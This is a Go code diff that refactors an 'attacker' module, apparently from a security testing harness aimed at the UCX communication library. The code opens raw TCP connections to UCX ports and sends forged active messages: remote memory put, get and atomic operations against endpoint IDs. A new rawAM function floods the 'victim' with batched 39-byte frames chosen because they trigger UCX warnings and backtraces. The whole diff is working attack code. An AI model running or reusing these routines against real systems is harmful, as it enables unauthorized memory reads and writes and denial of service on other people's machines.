@@ -237,22 +237,15 @@ func (a *attacker) rawTCPPut(c cmd, timeout time.Duration) (map[string]any, erro
 	if err != nil || len(data) == 0 {
 		return nil, errors.New("raw_tcp_put: data: want hex bytes")
 	}
-	var results []map[string]any
-	for _, t := range targets {
-		r, err := rawDial(t, timeout)
-		if err != nil {
-			results = append(results, map[string]any{"addr": t.Addr, "error": err.Error()})
-			continue
-		}
+	results := onEach(targets, timeout, func(r *rawConn) map[string]any {
 		if r.acked {
 			if _, err := r.c.Write(tcpPutRequest(c.Addr, data, 1)); err != nil {
 				r.closed = err.Error()
 			}
 			r.read(min(timeout, 2*time.Second), func() bool { return r.replies[tcpAMPutAck] > 0 })
 		}
-		r.c.Close()
-		results = append(results, r.result())
-	}
+		return r.result()
+	})
 	return map[string]any{"results": results}, nil
 }
 
@@ -267,6 +260,80 @@ func (a *attacker) rawUCP(c cmd, timeout time.Duration) (map[string]any, error) 
 		return map[string]any{"skipped": skip}, err
 	}
 	data, _ := hex.DecodeString(c.Data)
+	msg := func(i int, id uint64) []byte {
+		switch c.UCP {
+		case "put":
+			return tcpAM(ucpAMPut, ucpPut(c.Addr, id, data))
+		case "get":
+			return tcpAM(ucpAMGetReq, ucpGetReq(c.Addr, c.Len, id, uint64(2*i+1)))
+		case "atomic":
+			return tcpAM(ucpAMAtomicReq, ucpAtomicReq(c.Addr, id, uint64(2*i+1), c.Value))
+		}
+		return nil
+	}
+	if msg(0, 0) == nil {
+		return nil, fmt.Errorf("raw_ucp: ucp %q: want put, get or atomic", c.UCP)
+	}
+	results := sendOnEach(targets, timeout, func(r *rawConn) int {
+		sent := 0
+		for i, id := range c.EPIDs {
+			if !r.acked || r.closed != "" {
+				break
+			}
+			if _, err := r.c.Write(msg(i, id)); err != nil {
+				r.closed = err.Error()
+				break
+			}
+			sent++
+		}
+		return sent
+	})
+	return map[string]any{"results": results}, nil
+}
+
+// rawAM sends c.Count UCT active messages with id c.AMID (0 when absent; the caller picks one
+// ucp registers no handler for, so UCX's stub handler gets them) on one raw connection per UCX
+// port, each the size of the smallest frame that made UCX print a warning, a hex dump and a
+// backtrace: 39 bytes.
+func (a *attacker) rawAM(c cmd, timeout time.Duration) (map[string]any, error) {
+	targets, skip, err := rawTargets(c)
+	if err != nil || skip != "" {
+		return map[string]any{"skipped": skip}, err
+	}
+	if c.AMID < 0 || c.AMID >= tcpAMConnMgmt || c.Count <= 0 {
+		return nil, fmt.Errorf("raw_am: am_id %d, count %d: want an id below %d (ucp's range) and a count above 0", c.AMID, c.Count, tcpAMConnMgmt)
+	}
+	body := make([]byte, 39-tcpAMHdrLen)
+	for i := range body {
+		body[i] = 0x41
+	}
+	frame := tcpAM(uint8(c.AMID), body)
+	results := sendOnEach(targets, timeout, func(r *rawConn) int {
+		// Batched writes: the victim reads them as one stream of frames all the same.
+		const batch = 100
+		buf := make([]byte, 0, batch*len(frame))
+		sent := 0
+		for sent < c.Count && r.acked && r.closed == "" {
+			n := min(batch, c.Count-sent)
+			buf = buf[:0]
+			for range n {
+				buf = append(buf, frame...)
+			}
+			_ = r.c.SetWriteDeadline(time.Now().Add(timeout))
+			if _, err := r.c.Write(buf); err != nil {
+				r.closed = err.Error()
+				break
+			}
+			sent += n
+		}
+		return sent
+	})
+	return map[string]any{"results": results}, nil
+}
+
+// onEach opens one raw connection to each target, lets use work on it and closes it; use's
+// result is the target's. A target that cannot be reached is reported with its error.
+func onEach(targets []rawTarget, timeout time.Duration, use func(r *rawConn) map[string]any) []map[string]any {
 	var results []map[string]any
 	for _, t := range targets {
 		r, err := rawDial(t, timeout)
@@ -274,34 +341,20 @@ func (a *attacker) rawUCP(c cmd, timeout time.Duration) (map[string]any, error) 
 			results = append(results, map[string]any{"addr": t.Addr, "error": err.Error()})
 			continue
 		}
-		sent := 0
-		for i, id := range c.EPIDs {
-			if !r.acked || r.closed != "" {
-				break
-			}
-			var msg []byte
-			switch c.UCP {
-			case "put":
-				msg = tcpAM(ucpAMPut, ucpPut(c.Addr, id, data))
-			case "get":
-				msg = tcpAM(ucpAMGetReq, ucpGetReq(c.Addr, c.Len, id, uint64(2*i+1)))
-			case "atomic":
-				msg = tcpAM(ucpAMAtomicReq, ucpAtomicReq(c.Addr, id, uint64(2*i+1), c.Value))
-			default:
-				r.c.Close()
-				return nil, fmt.Errorf("raw_ucp: ucp %q: want put, get or atomic", c.UCP)
-			}
-			if _, err := r.c.Write(msg); err != nil {
-				r.closed = err.Error()
-				break
-			}
-			sent++
-		}
-		r.read(min(timeout, 250*time.Millisecond), nil)
+		results = append(results, use(r))
 		r.c.Close()
+	}
+	return results
+}
+
+// sendOnEach is onEach for send, which writes on the connection and returns how many messages
+// it wrote; what the victim sends back for a moment after is read before the connection closes.
+func sendOnEach(targets []rawTarget, timeout time.Duration, send func(r *rawConn) int) []map[string]any {
+	return onEach(targets, timeout, func(r *rawConn) map[string]any {
+		sent := send(r)
+		r.read(min(timeout, 250*time.Millisecond), nil)
 		m := r.result()
 		m["sent"] = sent
-		results = append(results, m)
-	}
-	return map[string]any{"results": results}, nil
+		return m
+	})
 }
